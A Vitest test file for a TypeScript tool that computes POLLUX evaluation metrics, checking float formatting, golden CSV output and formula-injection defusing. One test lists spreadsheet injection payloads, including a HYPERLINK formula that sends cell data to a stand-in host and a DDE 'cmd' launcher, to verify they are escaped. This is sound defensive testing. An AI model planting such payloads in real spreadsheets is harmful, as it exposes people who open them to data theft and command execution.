import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { judgmentsCsv } from '../../../src/lib/io/index.ts';
import { computePolluxMetrics } from '../../../src/lib/pollux/index.ts';
import { computeReport, metricsCsv, pyFloatRepr } from '../../../src/lib/metrics/index.ts';
import { EXPECTED_CSV, INSTRUCTIONS, SCORES, runJudgments } from './fixtures/small-run.ts';

describe('pyFloatRepr (Python repr(float), as pandas to_csv writes it)', () => {
  it.each([
    [0, '0.0'],
    [-0, '-0.0'],
    [1, '1.0'],
    [0.5, '0.5'],
    [2 / 3, '0.6666666666666666'],
    [0.1 + 0.2, '0.30000000000000004'],
    [1e-5, '1e-05'],
    [1.5e-7, '1.5e-07'],
    [0.0001, '0.0001'],
    [123.25, '123.25'],
    [1e16, '1e+16'],
    // Literals that round on parsing, exactly as Python's float() rounds them.
    // eslint-disable-next-line no-loss-of-precision
    [1234567890123456.7, '1234567890123456.8'],
    // eslint-disable-next-line no-loss-of-precision
    [12345678901234567890, '1.2345678901234567e+19'],
    [-2.5, '-2.5'],
    [100, '100.0'],
  ])('%s → %s', (x, expected) => {
    expect(pyFloatRepr(x)).toBe(expected);
  });
});

describe('metrics.csv golden (metrics.py layout and numbers)', () => {
  it('computePolluxMetrics + metricsCsv on scores.json match the hand-derived metrics.csv byte for byte', () => {
    const m = computePolluxMetrics(INSTRUCTIONS, SCORES);
    expect(m.grand_mean).toBe(3.5 / 6);
    expect(m.dropped).toEqual({ unparsed: 1, out_of_scale: 1 });
    expect(m.unknown_prompt).toBe(0);
    expect(metricsCsv(m)).toBe(EXPECTED_CSV);
  });

  it("a run's parsed judgments give the identical matrix and CSV", () => {
    const run = { id: 'r', label: 'r', judgments: runJudgments() };
    const [{ pollux, coverage }] = computeReport({ settings: { gate: 'official', resamples: 0, seed: 1 }, instructions: INSTRUCTIONS, run, categories: [] }, null).systems;
    expect(metricsCsv(pollux)).toBe(EXPECTED_CSV);
    expect(coverage).toMatchObject({ total: 13, judged: 11, unparsed: 1, outOfScale: 1, gated: 3, instructions: 6, gatedInstructions: 2 });
  });

  it('the critical-only gate keeps task-specific binary criteria from zeroing their prompt', () => {
    const run = { id: 'r', label: 'r', judgments: runJudgments() };
    const m = computeReport({ settings: { gate: 'critical-only', resamples: 0, seed: 1 }, instructions: INSTRUCTIONS, run, categories: [] }, null).systems[0].pollux;
    // P5's "Только нужная информация" = 1 is no longer a gate; P4 still fails the critical gate.
    expect(m.matrix['Только нужная информация']['ИИ как персонаж']).toBe(1);
    expect(m.matrix['Креативность']['Creative Generation']).toBe(0.5);
  });
});

describe('metrics.csv cells that a spreadsheet would run as formulas', () => {
  const hostile = ['=HYPERLINK("http://x/?"&A1,"ok")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1', '-2+3', '\tTab', '\rCR', '=multi\nline'];

  it('are written with a leading apostrophe and quoted, exactly as the judgments CSV writes them', () => {
    const matrix = Object.fromEntries(hostile.map((name, i) => [name, { '=meta': i - 3 }]));
    const csv = metricsCsv({ matrix, mean_over_meta: {}, mean_over_criteria: { '=meta': -0.5 }, grand_mean: -0.25 });
    const rows = Papa.parse<string[]>(csv.trimEnd(), { newline: '\n' }).data;
    expect(rows[0]).toEqual(['criteria_name', "'=meta", 'mean_over_meta']);
    const judgments = Papa.parse<string[]>(
      judgmentsCsv(hostile.map((criteria_name, i) => ({ runId: 'r', jobId: `${i}`, prompt_id: i, criteria_name, rubrics: '', raw: '', status: 'pending', outcome: null, cached: false, attempts: 0, prompt: '' }))).trimEnd(),
      { newline: '\r\n' },
    ).data.slice(1);
    const sorted = [...hostile].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
    sorted.forEach((name, i) => {
      expect(rows[i + 1][0]).toBe(`'${name}`);
      // The same cell text as the judgments CSV gives the same name.
      expect(rows[i + 1][0]).toBe(judgments[hostile.indexOf(name)][1]);
    });
    // Numbers are never touched: a negative mean stays a number.
    expect(rows[1][1]).toBe(String(hostile.indexOf(sorted[0]) - 3) + '.0');
    expect(csv.trimEnd().split('\n').at(-1)).toBe('mean_over_criteria,-0.5,-0.25');
    // Quoted where defused: the raw line starts with a quote.
    expect(csv.split('\n')[0]).toBe(`criteria_name,"'=meta",mean_over_meta`);
  });

  it('leaves POLLUX-like names as pandas writes them', () => {
    const csv = metricsCsv({ matrix: { 'Грамотность, стиль': { QA: 1 }, 'e-mail': { QA: 0.5 } }, mean_over_meta: {}, mean_over_criteria: {}, grand_mean: null });
    expect(csv).toBe('criteria_name,QA,mean_over_meta\ne-mail,0.5,\n"Грамотность, стиль",1.0,\nmean_over_criteria,,\n');
  });
});
